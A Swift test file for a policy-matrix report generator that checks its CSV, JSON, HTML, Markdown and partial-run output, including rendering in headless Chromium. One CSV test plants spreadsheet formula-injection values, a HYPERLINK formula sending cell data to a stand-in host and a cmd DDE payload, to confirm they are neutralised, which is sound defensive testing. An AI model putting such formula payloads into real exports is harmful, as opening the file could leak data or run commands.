import Foundation
import MAMCatalog
#if canImport(FoundationXML)
import FoundationXML
#endif
import MAMMatrix
import MAMPolicy
import MAMScript
import MAMTestSupport
import Testing

@Suite("Reports: every format parses")
struct ReportTests {
    static let report = try! Fixture.predict(BuiltIn.default)
    static let exit = try! Fixture.predict(BuiltIn.exitCriteria)

    /// RFC 4180 records (quoted fields may hold commas, quotes and line breaks).
    static func parseCSV(_ text: String) -> [[String]] {
        var records: [[String]] = [], field = "", record: [String] = []
        var quoted = false, i = text.startIndex
        while i < text.endIndex {
            let c = text[i]
            if quoted {
                if c == "\"" {
                    let next = text.index(after: i)
                    if next < text.endIndex && text[next] == "\"" { field.append("\""); i = next } else { quoted = false }
                } else { field.append(c) }
            } else if c == "\"" { quoted = true }
            else if c == "," { record.append(field); field = "" }
            else if c == "\n" { record.append(field); records.append(record); record = []; field = "" }
            else { field.append(c) }
            i = text.index(after: i)
        }
        record.append(field)
        records.append(record)
        return records
    }

    @Test func csvHasOneRecordPerCellWithEveryColumn() {
        var withComma = Self.exit
        withComma.results[0].cell.label = "a, \"quoted\"\nlabel"
        let records = Self.parseCSV(withComma.render(.csv))
        #expect(records.first == MatrixReport.csvHeader)
        #expect(records.count == withComma.results.count + 1)
        #expect(records.allSatisfy { $0.count == MatrixReport.csvHeader.count })
        #expect(records[1].last == "a, \"quoted\"\nlabel")
        #expect(records[1][MatrixReport.csvHeader.firstIndex(of: "predicted")!] == "encrypted")
    }

    /// Policy labels long in every row (the framework's, 44 characters) keep the table's columns
    /// aligned; one long value (a URL) runs past its column without widening the others.
    @Test func longPolicyLabelsKeepTheTableAligned() {
        var report = Self.exit
        for i in report.results.indices { report.results[i].cell.policy = "level-1-enterprise-basic-data-protection-iOS" }
        report.results[0].cell.source.name = String(repeating: "x", count: 60)
        let lines = report.render(.table).split(separator: "\n").prefix(report.results.count + 1).map(String.init)
        // The channel column starts at one offset on every line but the one with the long source.
        let offsets = Set(lines.enumerated().filter { $0.offset != 1 }.compactMap { _, line in
            ["send", "receive", "import", "login", "logout", "channel"].lazy.compactMap { line.range(of: "  \($0)") }.first
                .map { line.distance(from: line.startIndex, to: $0.lowerBound) }
        })
        #expect(offsets.count == 1, "\(offsets) in \(lines.prefix(4).joined(separator: "\n"))")
    }

    /// Names come from other people's catalogs, tenants and manifests: none reaches a CSV cell as
    /// a formula a spreadsheet would run.
    @Test func csvNeutralisesFormulaPrefixes() {
        var hostile = Self.exit
        let formulas = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"]
        for (i, f) in formulas.enumerated() { hostile.results[i].cell.label = f }
        hostile.results[0].cell.source.name = "=cmd|' /C calc'!A0"
        let records = Self.parseCSV(hostile.render(.csv))
        for (i, f) in formulas.enumerated() { #expect(records[i + 1].last == "'" + f, "\(records[i + 1])") }
        #expect(records[1][MatrixReport.csvHeader.firstIndex(of: "source")!] == "'=cmd|' /C calc'!A0")
        for record in records.dropFirst() {
            for field in record { #expect(!"=+-@\t\r".contains(field.first ?? " "), "a field starts a formula: \(field)") }
        }
        // An ordinary value is as it was.
        #expect(records[1][MatrixReport.csvHeader.firstIndex(of: "predicted")!] == "encrypted")
    }

    @Test func jsonIsOneObjectPerCellConformingToTheSchema() throws {
        let schema = try SchemaChecker(file: Fixture.root.appendingPathComponent("docs/matrix-cell.schema.json").path)
        var withLive = Self.exit
        withLive.results[0].live = Verdict(outcome: .allowed, rule: "4.1.4", arrival: Arrival(sha256: "ab", readable: true, identity: ""))
        withLive.results[0].audit = [#"{"channel":"open-in","outcome":"allowed"}"#]
        let lines = withLive.render(.json).split(separator: "\n")
        #expect(lines.count == withLive.results.count)
        for line in lines {
            let value = try JSONValue.parse(Array(line.utf8))
            #expect(schema.check(value) == [], "\(line.prefix(200))")
            #expect(value["source"]?["app"] != nil && value["source"]?["account"] != nil)
        }
        let first = try JSONValue.parse(Array(lines[0].utf8))
        #expect(first["agree"] == .bool(false))
        #expect(first["live"]?["arrival"]?["readable"] == .bool(true))
        // The checker can fail: a cell without its policy does not conform.
        guard case var .object(o) = first else { Issue.record("not an object"); return }
        o["policy"] = nil
        #expect(!schema.check(.object(o)).isEmpty)
    }

    final class Counter: NSObject, XMLParserDelegate {
        var cells = 0, tables = 0, scripts = 0, external = 0
        func parser(_ parser: XMLParser, didStartElement name: String, namespaceURI: String?, qualifiedName: String?, attributes: [String: String] = [:]) {
            if name == "div", attributes["class"]?.hasPrefix("cell ") == true { cells += 1 }
            if name == "table", attributes["class"] == "heat" { tables += 1 }
            if name == "script" || name == "link" || name == "img" { scripts += 1 }
            // What the page would fetch or lead to (a cell's text may quote the web link it tried).
            let fetched = ["src", "href", "action", "style"].compactMap { attributes[$0] }
            if fetched.contains(where: { $0.contains("http://") || $0.contains("https://") || $0.contains("url(") }) { external += 1 }
        }
    }

    @Test func htmlIsWellFormedSelfContainedWithOneCellPerMatrixCell() {
        let diff = MatrixDiff(Self.report.results, policyA: "managed-only", policyB: "allow-all")
        let html = Self.report.render(.html, diff: diff)
        let parser = XMLParser(data: Data(html.utf8))
        let counter = Counter()
        parser.delegate = counter
        #expect(parser.parse(), "not well-formed: \(String(describing: parser.parserError))")
        #expect(counter.cells == Self.report.results.count)
        // Two tables per policy: the default experiment's columns are more than one table holds.
        #expect(counter.tables == 2 * 9)
        #expect(counter.scripts == 0 && counter.external == 0)
        #expect(html.contains("What changes from managed-only to allow-all"))
        #expect(html.contains("title=\"#2 [managed-only] Mail (adele) open-in → Docs (adele)"))
    }

    @Test func tableAndMarkdownListEveryCellAndTheFailures() {
        var failing = Self.exit
        failing.results[1].cell.expect = Expectation(.blocked)
        let table = failing.render(.table)
        #expect(table.split(separator: "\n").count >= failing.results.count + 1)
        #expect(table.contains("FAIL #2"))
        let md = failing.render(.md)
        #expect(md.contains("| 2 | managed-only | Mail (adele) | send | Docs (adele) | allowed 4.2.3 | blocked | **FAIL** |"))
    }
}

/// The HTML report in a real browser: headless Chromium (Debian `chromium`) must render a
/// heatmap, not a blank page, and its DOM must hold one cell per matrix cell. Fails when
/// Chromium is missing (scripts/test installs it).
@Suite("HTML report in Chromium", .serialized)
struct ChromiumTests {
    /// `html` as Chromium renders it, in a folder of its own (gone after `body`): `body` gets the
    /// browser on the page and the rendered DOM. Chromium missing is a failure.
    func withRenderedPage(_ html: String, _ body: (_ browser: HeadlessChromium, _ dom: String) throws -> Void) throws {
        try HeadlessChromium.withPage(html) { browser in try body(browser, try browser.dom()) }
    }

    @Test func theHeatmapRendersAndHasOneCellPerMatrixCell() throws {
        let report = ReportTests.report
        try withRenderedPage(report.render(.html)) { browser, dom in
            let dir = browser.folder
            try Data("<!DOCTYPE html><html><body></body></html>".utf8).write(to: URL(fileURLWithPath: dir + "/blank.html"))
            let cells = dom.components(separatedBy: "<div class=\"cell ").count - 1
            #expect(cells == report.results.count)

            try browser.run(["--screenshot=\(dir)/matrix.png", "--window-size=1200,900", "file://\(dir)/matrix.html"])
            try browser.run(["--screenshot=\(dir)/blank.png", "--window-size=1200,900", "file://\(dir)/blank.html"])
            let picture = try Data(contentsOf: URL(fileURLWithPath: dir + "/matrix.png"))
            let blank = try Data(contentsOf: URL(fileURLWithPath: dir + "/blank.png"))
            #expect(Array(picture.prefix(8)) == [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A], "a PNG")
            // A one-colour page of the same size compresses to almost nothing; a heatmap does not.
            #expect(picture.count > blank.count * 10, "screenshot \(picture.count) bytes against \(blank.count) for a blank page")
        }
    }

    @Test("the admin's page: the diff first and linked from the top, each change with its setting; each policy's name, file and sharing settings")
    func theAdminsPageNamesWhyCellsChange() throws {
        var report = ReportTests.report
        var settings: [String: [String: String]] = [:]
        for label in ["level1-basic", "level2-enhanced"] {
            let file = "Policies/contoso/policies/\(label).json"
            let policy = try Catalog.loadPolicyFile(Fixture.root.appendingPathComponent(file).path).first!.policy
            settings[label] = MatrixDiff.settingValues(policy)
            report.policyInfo[label] = PolicyInfo(displayName: policy.displayName, file: file, settings: settings[label]!)
        }
        let diff = MatrixDiff(report.results, policyA: "level1-basic", policyB: "level2-enhanced", settings: settings)
        try withRenderedPage(report.render(.html, diff: diff)) { _, dom in
            // The link at the top leads to the diff, which comes before the first heatmap.
            let link = try #require(dom.range(of: "<a href=\"#diff\">"))
            let diffAt = try #require(dom.range(of: "<h2 id=\"diff\">"))
            let firstHeatmap = try #require(dom.range(of: "<table class=\"heat\""))
            #expect(link.lowerBound < diffAt.lowerBound && diffAt.lowerBound < firstHeatmap.lowerBound)
            // The web link's change names the managed-browser setting.
            #expect(dom.contains("managedBrowserToOpenLinksRequired: false → true"))
            #expect(!diff.changes.isEmpty && diff.changes.allSatisfy { !diff.reasons($0).isEmpty })
            // Each policy's display name, file and the settings deciding sharing, beside its heatmap.
            #expect(dom.contains("Policy: \(report.policyInfo["level2-enhanced"]!.displayName)"))
            #expect(dom.contains("File: Policies/contoso/policies/level2-enhanced.json"))
            #expect(dom.contains("<td>allowedOutboundDataTransferDestinations</td><td>managedApps</td>"))
            // Blank squares are explained.
            #expect(dom.contains("An empty square is no cell"))
        }
    }

    @Test("every cell readable without hover and in print, in plain words, under compact headers")
    func everyCellInWordsAndInPrint() throws {
        let report = ReportTests.report
        let diff = MatrixDiff(report.results, policyA: "level1-basic", policyB: "level2-enhanced")
        try withRenderedPage(report.render(.html, diff: diff)) { browser, dom in
            // Each square links to its own line in words, and every cell has one.
            for r in report.results.prefix(40) + report.results.suffix(40) {
                #expect(dom.contains("<a class=\"sq\" href=\"#c\(r.cell.id)\"><div class=\"cell "), "square \(r.cell.id)")
        }
        #expect(dom.components(separatedBy: "<tr id=\"c").count - 1 == report.results.count)
        // Plain words: no rule's internal name, no tag or seed citation, anywhere on the page.
        let words = try #require(dom.range(of: "<h2 id=\"cells\">"))
        #expect(dom[words.lowerBound...].contains("Blocked. The sender's policy lets organization data go only to policy-managed apps"))
        #expect(dom.contains("from the vendor's SDK developer guide, “Identity overview”"))
        for name in Rule.allCases.map(\.rawValue) {
            #expect(!dom.contains(name), "the page names rule \(name)")
        }
        for said in ["[chosen", "[doc", "seed 00"] { #expect(!dom.contains(said), "the page says \(said)") }
        // Compact headers: the target party over a channel number, nothing rotated.
        #expect(!dom.contains("writing-mode") && !dom.contains("rotate("))
        #expect(dom.contains("<th class=\"grp\" colspan=") && dom.contains("Channels: <b>1</b> open-in"))
        // In print: the page's own print rules, and Chromium prints it on several pages (the
        // cells in words are there, not folded away).
        #expect(dom.contains("@media print"))
        let printed = try browser.printed()
        #expect(printed.pages > 3 && printed.text.contains("Every cell in words"), "\(printed.pages) pages")
        }
    }
}

/// A run cut short says so on the first line of every form, with what was not answered.
@Suite("Reports: a partial run is marked in every form")
struct PartialReportTests {
    static let report: MatrixReport = {
        var r = ReportTests.report
        r.results = Array(r.results.prefix(40))
        r.partial = PartialRun(reason: "interrupted (SIGINT)", answered: 40, planned: ReportTests.report.results.count,
                               notRun: ["level-2", "level-3"])
        return r
    }()

    @Test(arguments: MatrixFormat.allCases)
    func theFirstLineSaysItIsPartial(_ format: MatrixFormat) throws {
        let text = Self.report.render(format)
        let line = "PARTIAL RUN: interrupted (SIGINT) after 40 of \(ReportTests.report.results.count) cells; not run at all: level-2, level-3"
        switch format {
        case .table: #expect(text.hasPrefix(line))
        case .md: #expect(text.hasPrefix("**" + line))
        case .csv: #expect(text.hasPrefix("# " + line))
        case .html: #expect(text.contains("<p class=\"partial\">\(line)"))
        case .json:
            let first = try JSONSerialization.jsonObject(with: Data(text.split(separator: "\n")[0].utf8)) as? [String: Any]
            let partial = first?["partial"] as? [String: Any]
            #expect(partial?["answered"] as? Int == 40 && partial?["notRun"] as? [String] == ["level-2", "level-3"])
            #expect(text.split(separator: "\n").count == 41)
        case .junit: #expect(text.contains("<testsuite name=\"partial run\" tests=\"1\" failures=\"1\"") && text.contains("type=\"partial\""))
        case .sarif:
            let log = try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any]
            let invocation = (((log?["runs"] as? [[String: Any]])?.first?["invocations"]) as? [[String: Any]])?.first
            #expect(invocation?["executionSuccessful"] as? Bool == false, "\(text.prefix(400))")
        }
        // Whole: no mark.
        #expect(!ReportTests.report.render(format).contains("PARTIAL RUN"))
    }
}
